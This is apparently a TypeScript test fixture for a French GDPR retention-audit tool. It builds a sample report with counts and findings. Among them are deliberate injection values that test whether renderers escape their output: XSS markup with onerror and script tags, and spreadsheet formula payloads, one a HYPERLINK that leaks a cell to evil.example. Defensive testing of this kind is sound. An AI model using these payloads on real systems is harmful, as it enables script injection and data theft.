/**
 * A hand-made report for the renderer tests: realistic counts and findings, plus the hostile values a
 * report must survive — markup and script in ids and column names, formula-like values, pipes and
 * line breaks. Built as a literal so the renderers are tested without waiting for every rule to exist.
 */
import type { ReportDocument, ReportFinding } from '../../src/report/model.js';
import { AGE_BUCKETS } from '../../src/report/model.js';

export const XSS_ID = '<img src=x onerror="window.__pwned=1">';
export const XSS_COLUMN = '<script>window.__pwned=2</script>';
export const FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const RETENTION_REFS = [
  { label: 'RGPD art. 5.1.e', url: 'https://eur-lex.europa.eu/legal-content/FR/TXT/?uri=CELEX:32016R0679' },
  { label: 'CNIL, délibération 2012-021 (NS 34)', url: 'https://www.legifrance.gouv.fr/cnil/id/CNILTEXT000025284421' },
];

function f(p: Partial<ReportFinding> & Pick<ReportFinding, 'rule' | 'line'>): ReportFinding {
  return { severity: 'error', action: 'drop-row', messageId: 'expired', params: {}, ...p };
}

export function sampleReport(overrides: Partial<ReportDocument> = {}): ReportDocument {
  const months = new Array<number>(AGE_BUCKETS).fill(0);
  months[0] = 3;
  months[1] = 2;
  months[5] = 4;
  months[14] = 2;
  months[40] = 3;
  months[AGE_BUCKETS - 1] = 1;
  const expired = (category: string, date: string, deadline: string) => ({ messageId: 'expired', params: { category, duration: category === 'regular_contact' ? '3y' : '2m', field: 'dernier contact', date, deadline } });
  const findings: ReportFinding[] = [
    f({ rule: 'retention-expired', line: 2, id: '1001', field: 'last_contact_at', ...expired('regular_contact', '2022-05-14', '2025-05-14') }),
    f({ rule: 'retention-expired', line: 7, id: XSS_ID, field: 'last_contact_at', ...expired('prospect', '2026-01-02', '2026-03-02') }),
    f({ rule: 'profiling', line: 3, id: FORMULA_ID, action: 'scrub-field', field: XSS_COLUMN, messageId: 'recorded', params: { column: XSS_COLUMN } }),
    f({ rule: 'retention-unknown', line: 4, id: '1003', severity: 'warning', action: 'flag', messageId: 'noDate', params: { category: 'unknown', fields: 'collected_at | no date\nat all' } }),
    f({ rule: 'invalid-date', line: 5, id: '@SUM(1+1)', severity: 'warning', action: 'flag', field: 'collected_at', messageId: 'unparseable', params: { field: 'collected_at' } }),
    f({ rule: 'retention-expired', line: 9, id: '1009', field: 'last_contact_at', ...expired('occasional_contact', '2026-01-02', '2026-03-02'), value: '-2+3' }),
  ];
  return {
    schemaVersion: 2,
    tool: { name: 'cnil-audit', version: '0.1.0' },
    command: 'scan',
    generatedAt: '2026-11-23T10:00:00.000Z',
    asOf: '2026-11-23',
    options: { for: ['email'], electionDate: null, failOn: 'error', lang: 'en', dryRun: false, retention: { regular_contact: '3y', occasional_contact: '2m', prospect: '2m', voter: '0d' } },
    input: {
      path: '/data/<b>contacts</b>.csv',
      sha256: 'a'.repeat(64),
      encoding: 'utf-8',
      bom: false,
      delimiter: ',',
      rows: 20,
      columns: 6,
      mapping: { id: 'id', email: 'email', last_contact_at: 'dernier contact' },
      unmapped: [XSS_COLUMN, '+tag'],
    },
    output: { path: '/data/contacts.clean.csv', rows: 17, droppedRows: 3, scrubbedColumns: [XSS_COLUMN], encoding: 'utf-8' },
    summary: {
      bySeverity: { error: 4, warning: 2, info: 0 },
      byRule: { 'retention-expired': 3, profiling: 1, 'retention-unknown': 1, 'invalid-date': 1 },
      bySource: { membership: 2, donation: 1, in_person: 3, web_form: 6, petition: 0, electoral_list: 0, social_regular: 1, social_occasional: 2, social_scraped: 1, referral: 0, file_rental: 0, purchased: 2, third_party: 0, forbidden: 0, unknown: 2 },
      byCategory: { member: 2, regular_contact: 8, occasional_contact: 3, voter: 0, prospect: 2, unknown: 5 },
      rowsWithFindings: 5,
      remainingBySeverity: { error: 1, warning: 2, info: 0 },
      channelsChecked: true,
      lastContactAges: { months, future: 1, unknown: 4 },
    },
    rules: {
      'retention-expired': { severity: 'error', action: 'drop-row', references: RETENTION_REFS },
      profiling: { severity: 'error', action: 'scrub-field', references: [{ label: 'CNIL réseaux sociaux', url: 'https://www.cnil.fr/fr/communication-politique-quelles-sont-les-regles-pour-lutilisation-des-donnees-issues-des-reseaux' }] },
      'retention-unknown': { severity: 'warning', action: 'flag', references: RETENTION_REFS },
      'invalid-date': { severity: 'warning', action: 'flag', references: [] },
    },
    findings,
    truncated: false,
    ...overrides,
  };
}
